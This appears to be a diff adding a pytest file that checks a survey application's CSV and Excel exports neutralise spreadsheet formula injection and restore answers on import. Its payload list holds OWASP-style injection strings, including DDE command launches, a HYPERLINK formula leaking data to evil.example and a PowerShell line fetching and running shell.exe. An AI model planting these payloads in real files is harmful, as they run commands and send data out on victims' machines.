@@ -1,0 +1,188 @@
+"""Formula injection (OWASP "CSV Injection"): an answer that a spreadsheet would run as a
+formula leaves enkat as text, in the tidy CSV of `enkat export responses` and of the
+results page, and comes back unchanged through `enkat import responses`."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import re
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from enkat.extensions import db
+from enkat.models import Answer, Role
+from enkat.services.answer_exports import AnswerFilter, tidy_xlsx
+from enkat.services.organisation import get_forbund
+from enkat.services.tidy_csv import (
+    export_responses,
+    import_responses,
+    neutralise_formulas,
+    restore_formulas,
+)
+from tests.integration.test_cli import enkat  # noqa: F401  (the command-line fixture)
+from tests.integration.web.test_auth import sign_in
+
+from .tidy import csv_bytes, rows, with_forbund
+
+D = dt.date
+
+#: OWASP's payloads and their DDE variants, and the ways a cell can begin inside a field
+#: for a spreadsheet that splits on ";" (Excel in Swedish), on tabs or at line breaks.
+PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1",
+    "\r=1",
+    "=1+1;=2",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "=cmd|' /C powershell IEX(wget evil.example/shell.exe)'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "Bra kurs;=HYPERLINK(\"http://evil.example\")",
+    "Bra kurs,=1+1",
+    "Bra kurs\t@SUM(1)",
+    "Första raden\n-2+3+cmd|' /C calc'!A0",
+)
+#: Genuine answers the rule must keep exactly: apostrophes of the writer's own, and text
+#: that only looks like a number.
+GENUINE = ("'=1+1", "''+1", "'hej", "'", "-1", "-", "=", "rad;'@ett", "ja, -nej")
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def cell_starts(text: str) -> list[str]:
+    """Every cell a spreadsheet may make of a file: the CSV's fields, and the pieces of
+    each line split on ";" and tabs as Excel in a Swedish locale splits them."""
+    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
+    pieces = [piece for line in text.splitlines() for piece in re.split("[;\t]", line)]
+    inner = [piece for field in fields for piece in re.split("[,;\t\r\n]", field)[1:]]
+    return [*fields, *pieces, *inner]
+
+
+def runnable(text: str) -> list[str]:
+    """The cells a spreadsheet would take for a formula."""
+    return [cell for cell in cell_starts(text)
+            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
+
+
+@pytest.mark.parametrize("value", PAYLOADS + GENUINE)
+def test_the_rule_leaves_no_formula_and_is_undone_exactly(value):
+    for written in (value, "'" + value, "''" + value):
+        neutral = neutralise_formulas(written)
+        assert restore_formulas(neutral) == written
+        assert not runnable(neutral), neutral
+
+
+def test_negative_numbers_stay_numbers_and_plain_text_stays_as_it_is():
+    for value in ("-1", "-2.5", "0", "4.2", "Bra, men \"tidsbrist\"", "2025-03-01", "'hej"):
+        assert neutralise_formulas(value) == value
+    assert neutralise_formulas("-1e5") == "'-1e5"
+    assert neutralise_formulas("'=1+1") == "''=1+1"
+    assert neutralise_formulas("rad ett\n=1") == "rad ett\n'=1"
+
+
+@pytest.fixture
+def hostile(forbund, make_response):
+    """A personal survey whose free-text answers are the payloads, one response each."""
+    for number, value in enumerate(PAYLOADS + GENUINE):
+        make_response("nns-personal", {"synpunkter": value}, timepoint="arlig",
+                      answered_on=D(2025, 10, 1), external_id=f"p-{number:02}")
+    return forbund
+
+
+def stored_answers() -> list[str]:
+    return sorted(db.session.scalars(select(Answer.value).where(Answer.item_id == "synpunkter")))
+
+
+def exported(**filters) -> str:
+    out = io.StringIO()
+    export_responses(out, **filters)
+    return out.getvalue()
+
+
+def test_export_neutralises_every_payload_and_import_restores_it(hostile, db_session):
+    stored = stored_answers()
+    assert "=cmd|' /C calc'!A0" in stored and "=1" in stored  # tab and CR: stripped as typed
+    text = exported(forbund=hostile)
+    assert runnable(text) == []
+    assert "p-00,test,steget,,nns-personal,1,arlig,2025-10-01,synpunkter,'=cmd|' /C calc'!A0" \
+        in text.splitlines()
+
+    same = import_responses(text.encode())
+    assert same.responses_unchanged == len(PAYLOADS + GENUINE) and same.responses_created == 0
+
+    copied = with_forbund(text, "kopia")
+    assert import_responses(copied, create_missing=True).responses_created == len(stored)
+    again = exported(forbund=get_forbund("kopia"))
+    assert again.encode() == copied
+    assert sorted(db.session.scalars(
+        select(Answer.value).where(Answer.item_id == "synpunkter"))) == sorted(stored * 2)
+
+
+def test_a_response_id_that_looks_like_a_formula_is_neutralised(forbund, insats):
+    import_responses(csv_bytes(*rows("@SUM(1+1)", "nns-personal", {"gemensamma-mal": "4"},
+                                     timepoint="arlig", insats="")))
+    text = exported(forbund=forbund)
+    assert text.splitlines()[1].startswith("'@SUM(1+1),test,,")
+    assert import_responses(text.encode()).responses_unchanged == 1
+
+
+NUMBERS = {
+    "format": 1, "id": "temperatur", "version": 1,
+    "title": {"sv": "Temperatur"},
+    "audience": "personal", "rated_by": "self", "anonymous": True, "languages": ["sv"],
+    "timepoints": ["dag"],
+    "source": {"owner": "Samordningsförbundet Test", "licence": "own", "verified": "own"},
+    "items": [{"id": "grader", "type": "number", "min": -40, "max": 40, "decimals": 1,
+               "text": {"sv": "Hur kallt var det ute?"}}],
+}
+
+
+def test_a_negative_number_answer_stays_a_number(app, forbund, tmp_path, monkeypatch):
+    (tmp_path / "temperatur.json").write_text(json.dumps(NUMBERS), encoding="utf-8")
+    monkeypatch.setitem(app.config, "INSTRUMENTS_DIR", str(tmp_path))
+    import_responses(csv_bytes(*rows("t1", "temperatur", {"grader": "-12.5"}, timepoint="dag",
+                                     insats="")), forbund_slug="test")
+    text = exported(forbund=forbund)
+    assert text.splitlines()[1] == "t1,test,,,temperatur,1,dag,2025-03-03,grader,-12.5"
+    assert import_responses(text.encode()).responses_unchanged == 1
+
+
+def test_the_workbook_keeps_every_payload_as_text(hostile):
+    workbook = load_workbook(io.BytesIO(tidy_xlsx(AnswerFilter(hostile))[0]))
+    cells = [row[9] for row in workbook["Svar"].iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in cells) == stored_answers()
+    assert {cell.data_type for cell in cells} == {"s"}
+
+
+def test_the_download_and_the_command_write_the_same_neutral_file(client, hostile, make_user,
+                                                                  enkat, tmp_path):  # noqa: F811
+    sign_in(client, make_user(Role.ADMIN).email)
+    downloaded = client.get("/forbund/svar.csv?ar=2025")
+    assert downloaded.status_code == 200
+    assert runnable(downloaded.get_data(as_text=True)) == []
+    target = tmp_path / "svar.csv"
+    result = enkat("export", "responses", "--forbund", "test", "-o", str(target))
+    assert result.exit_code == 0, result.output
+    assert target.read_bytes() == downloaded.data
+    stored = stored_answers()
+
+    back = enkat("import", "responses", str(target), "--forbund", "test")
+    assert back.exit_code == 0, back.output
+    assert f"imported 0 responses ({len(stored)} already there)" in back.output
+    copy = tmp_path / "kopia.csv"
+    copy.write_bytes(with_forbund(target.read_text(encoding="utf-8"), "kopia"))
+    assert enkat("import", "responses", str(copy), "--create-missing").exit_code == 0
+    again = tmp_path / "igen.csv"
+    assert enkat("export", "responses", "--forbund", "kopia", "-o", str(again)).exit_code == 0
+    assert again.read_bytes() == copy.read_bytes()
